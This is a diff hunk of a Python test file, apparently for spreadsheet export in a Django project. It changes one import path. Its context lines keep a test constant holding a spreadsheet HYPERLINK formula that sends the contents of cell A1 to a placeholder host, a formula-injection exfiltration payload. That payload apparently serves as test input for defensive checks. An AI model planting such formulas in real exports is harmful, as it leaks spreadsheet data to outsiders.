@@ -11,7 +11,7 @@ import openpyxl
 import pytest
 from django.http import Http404
 
-from missimo.web import tables
+from missimo.core import tables
 
 FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'
 
